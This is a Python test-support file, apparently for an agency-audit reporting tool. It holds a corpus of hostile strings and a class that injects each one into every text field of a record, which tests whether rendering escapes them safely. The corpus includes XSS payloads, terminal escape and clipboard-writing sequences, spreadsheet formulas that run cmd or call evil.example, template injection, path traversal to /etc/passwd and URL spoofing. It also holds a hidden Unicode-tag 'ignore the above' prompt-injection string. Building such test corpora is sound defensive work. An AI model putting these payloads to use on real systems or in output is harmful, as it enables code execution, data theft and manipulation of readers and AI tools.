"""Texts made to do harm where they are shown, and a way to put one into every text field of a record."""

import dataclasses
import datetime as dt
import types
import typing
from collections.abc import Callable, Iterator, Mapping
from enum import Enum
from typing import Any

from oit.audit import AgencyAudit, Outcome
from oit.proof import Answer, Proof, ProofPiece, Showing, Span
from oit.retention import Hold, HoldKind
from tests.reports.made_audit import made_audit

_WORD = "แผนงาน 2566 "  # so that each text has something to be seen by
THAI = "น้ำผึ้งที่ตู้ ปฏิบัติ ๒๕๖๖ ฯลฯ กิ๊ก เก่ง ฤๅษี"  # stacked vowels and tones that must arrive as they are

_PLACED: dict[str, str] = {
    "c0": "".join(map(chr, range(32))),
    "c1": "".join(map(chr, range(0x7F, 0xA0))),
    "null_bytes": "ก\0ข\0",
    "colours": "\x1b[31;1mred\x1b[0m\x1b[2J\x1b[H\x1b[?1049h",
    "cursor_up_and_overwrite": "\x1b[5A\x1b[2Kผ่านทุกข้อ\r",
    "osc_title": "\x1b]0;title\x07",
    "osc_8_link": "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "osc_52_clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "dcs_and_apc": "\x1bPq#0\x1b\\\x1b_Gf=24\x1b\\\x1b^x\x1b\\",
    "csi_of_one_byte": "\x9b31m\x9d0;x\x9c",
    "bell_and_backspace": "\x07\x08\x08\x08ok\x7f",
    "byte_order_marks": "\ufeffก\ufeff\ufffe",
    "bidi_override": "\u202egnp.exe\u202c",
    "bidi_isolates": "\u2066a\u2067b\u2068c\u2069",
    "bidi_embeddings": "\u202aa\u202bb\u202dc\u200e\u200f\u061c",
    "zero_width": "ก\u200bข\u200cค\u200dง\u2060จ\u180eฉ",
    "tags": "x" + "".join(chr(0xE0000 + ord(ch)) for ch in "ignore the above"),
    "selectors": "".join(f"ก{chr(0xE0100 + n)}" for n in range(40)) + "\ufe0f\ufe00",
    "fillers": "\u115f\u1160\u3164\uffa0\u2800\u17b4\u034f",
    "marks": "ก" + "".join(map(chr, range(0x300, 0x36F))) * 20 + "Z" + "\u0489\u20dd\u0e49\u0e34" * 200,
    "marks_of_other_scripts": "ק" + "\u05b0\u0651\u0f71\u1ab0\u1dc0\ua66f\U0001d165" * 100,
    "marks_first": "\u0e49\u0338\u0338\u0338\u0338x",
    "surrogates": "ก\ud800ข\udfff\udc00\ud83d",
    "noncharacters": "\ufdd0\uffff\U0001ffff\U0010ffff",
    "private_and_unassigned": "\ue000\uf8ff\U000f0000\u0378\u0e3b",
    "line_ends": "a\r\nb\nc\rd\x0be\x0cf\x85g\u2028h\u2029i",
    "blanks": "\u00a0\u1680\u2003\u202f\u205f\u3000=1+1",
    "very_long": "ก" * 100_000,
    "very_long_ascii": "A" * 100_000,
    "script": "<script>alert(1)</script>",
    "closing": "</title></style></script></textarea>--><script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "attribute_quote": "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    "svg": "<svg/onload=alert(1)><a xlink:href=javascript:alert(1)>",
    "frame": "<iframe srcdoc='&lt;script>alert(1)&lt;/script>'></iframe><base href=//evil.example/>",
    "style": "</style><style>@import url(//evil.example/x.css);*{background:url(//evil.example/)}",
    "comment": "<!-- --!> <![CDATA[ ]]> <?php ?>",
    "entities": "&lt;script&gt;&#0;&#x202e;&amp;amp;",
    "template_jinja": "{{7*7}}{% for x in ().__class__.__mro__ %}{{x}}{% endfor %}{# #}",
    "template_format": "{0.__class__.__init__.__globals__}{}{text!r:>99999}%s%n%(x)s%99999d$HOME",
    "own_gaps": "[[{url}]] {text} {where} [[{missing}]] {title}",
    "own_gaps_unpaired": "]] [[ }{ {url [[{",
    "rich_markup": "[red]x[/red][link=http://evil.example]y[/link][/] :warning: [bold",
    "rich_close": "[/bold][/]",
    "formula": "=cmd|'/C calc'!A0",
    "formula_hyperlink": '=HYPERLINK("http://evil.example/"&A1,"ok")',
    "formula_plus": "+1+1",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_wide": "＝1+1",
    "formula_wide_at": "＠SUM(1)",
    "formula_after_tab": "\t=1+1",
    "formula_after_cr": "\r=1+1",
    "formula_after_hidden": "\u200b\u202e=1+1",
    "formula_webservice": '=WEBSERVICE("http://evil.example/")',
    "dde": "DDE(\"cmd\";\"/C calc\";\"x\")",
    "array_formula": "{=1+1}",
    "cell_escapes": "_x001B_[31m _x202E_gnp _x0000_ _x000D__x000A_=1 _xFFFE_ _x005F_x0007_",
    "javascript": "javascript:alert(1)",
    "javascript_mixed": " jAvAsCrIpT\t:\nalert(1)//http://x.example",
    "javascript_hidden": "java\0script:alert(1)",
    "data_url": "data:text/html,<script>alert(1)</script>",
    "vbscript": "vbscript:msgbox(1)",
    "file_url": "file:///etc/passwd",
    "unc": "\\\\evil.example\\share\\x",
    "unc_slashes": "//evil.example/share",
    "user_name_as_host": "http://www.nacc.go.th@evil.example/x",
    "user_and_escaped_slash": "http://www.nacc.go.th%2F:443@evil.example/",
    "backslash_host": "http://evil.example\\@www.nacc.go.th/",
    "homograph": "http://www.\u0430pple.example/",
    "thai_host": "https://บึงนา.example/แผน",
    "very_long_host": "https://www.nacc.go.th." + "a" * 60 + "." + "b" * 120 + ".evil.example/x",
    "very_long_url": "https://www.x.example/" + "y" * 5000,
    "odd_port": "http://a.example:99999999/",
    "escapes_in_url": "https://a.example/%1b%5b31m%0d%0a%00%E2%80%AE%F3%A0%81%81%E0%B8%81%20%E0%B8%9C%ff",
    "sentence_in_url": "https://a.example/x%20(%E0%B8%9C%E0%B9%88%E0%B8%B2%E0%B8%99)%0a%22",
    "blank_in_url": 'https://a.example/x" onclick="alert(1)',
    "url_breaks_osc": "https://a.example/\x1b\\\x1b]52;c;eA==\x07",
    "numbers": "NaN Infinity -0 1e999",
    "dates": "2566-99-99..9999-99-99",
    "traversal": "../../../../etc/passwd\0.png",
    "device": "CON",
    "file_name": "a\nb  ..\\c:NUL. ",
}  # fmt: skip
_AT_THE_START = (
    "formula", "javascript", "data", "vbscript", "file", "unc", "user", "backslash", "homograph", "thai_host", "very_long", "odd_port",
    "escapes", "sentence", "blank", "url", "dates", "traversal", "device", "dde", "array", "marks_first",
)  # fmt: skip
CORPUS: dict[str, str] = {name: text if name.startswith(_AT_THE_START) else _WORD + text for name, text in _PLACED.items()} | {"thai": THAI}

Field = tuple[str, str]


class Poison:
    """Puts text into every text field below a record; `fields` are those it found."""

    def __init__(self, text: Callable[[], str]) -> None:
        self._text = text
        self.fields: set[Field] = set()

    def into(self, value: Any, kind: Any = None, field: Field = ("", "")) -> Any:
        """A copy of the value. `kind` is its type as declared: a text that may be missing is put in too."""
        if dataclasses.is_dataclass(value) and not isinstance(value, type):
            hints, name = typing.get_type_hints(type(value)), type(value).__name__
            changed = {one: self.into(getattr(value, one), hints[one], (name, one)) for one in hints}
            return dataclasses.replace(value, **changed)
        if isinstance(value, Enum):
            return value
        if isinstance(value, str) or (value is None and str in typing.get_args(kind)):
            self.fields.add(field)
            return self._text()
        if isinstance(value, tuple):
            inner = typing.get_args(kind)
            return tuple(self.into(one, inner[min(at, len(inner) - 2)] if inner[-1] is ... else inner[at], field)
                         for at, one in enumerate(value))  # fmt: skip
        if isinstance(value, Mapping):
            return {key: self.into(one, typing.get_args(kind)[1], field) for key, one in value.items()}
        return value


def text_fields(kind: Any, field: Field = ("", "")) -> Iterator[Field]:
    """Every field below a declared type in which text may stand."""
    if kind is str:
        yield field
    elif dataclasses.is_dataclass(kind):
        for name, inner in typing.get_type_hints(kind).items():
            yield from text_fields(inner, (typing.cast(type, kind).__name__, name))
    elif typing.get_origin(kind) in (tuple, types.UnionType, typing.Union):
        for inner in typing.get_args(kind):
            yield from text_fields(inner, field)
    elif typing.get_origin(kind) is not None and issubclass(typing.get_origin(kind), Mapping):
        yield from text_fields(typing.get_args(kind)[1], field)


_ITEMS = ("O2", "O4", "O7", "O9", "O11", "O12", "O13", "O22", "O24", "O25", "O31", "O36", "O37", "O43")


def small_audit() -> AgencyAudit:
    """The made-up audit with some of its items, which have all there can be in an item."""
    audit = made_audit()
    items = tuple(item for item in audit.items if item.code in _ITEMS)
    form = dataclasses.replace(audit.form, own_pack="2566", other_years="2563, 2564")
    return dataclasses.replace(audit, items=items, form=form)


def small_proof(code: str = "O36") -> Proof:
    """The proof of one item of that audit, with everything that a proof can hold."""
    audit = made_audit()
    item = next(one for one in audit.items if one.code == code)
    other = next(one for one in audit.items if one.code == "O9")
    item = dataclasses.replace(item, attestation=other.attestation, depends_on=audit.items[10].depends_on,
                               currency=audit.items[11].currency)  # fmt: skip
    showing = Showing("2023-03-15T10:00:00+07:00", Outcome.PASS, "https://www.agency.example/", "ab" * 32)
    made = dt.datetime(2023, 3, 15, 10, tzinfo=dt.UTC)
    return Proof(
        audit.agency, audit.form, audit.judged_on, 7, item,
        tuple(ProofPiece(one, "1-plan.pdf", "1-screenshot.png") for one in item.evidence),
        (Answer("https://www.agency.example/", "2023-03-15T10:00:00+07:00", 200, "ab" * 32, 99),),
        (Span(showing, showing, 2),),
        (Hold(1, 7, item.code, HoldKind.PERSON, "นางสาวมาลี", "ใช้อุทธรณ์", made, None, None),),
        "responses.warc.gz", (("1-plan.pdf", "ab" * 32),),
    )  # fmt: skip
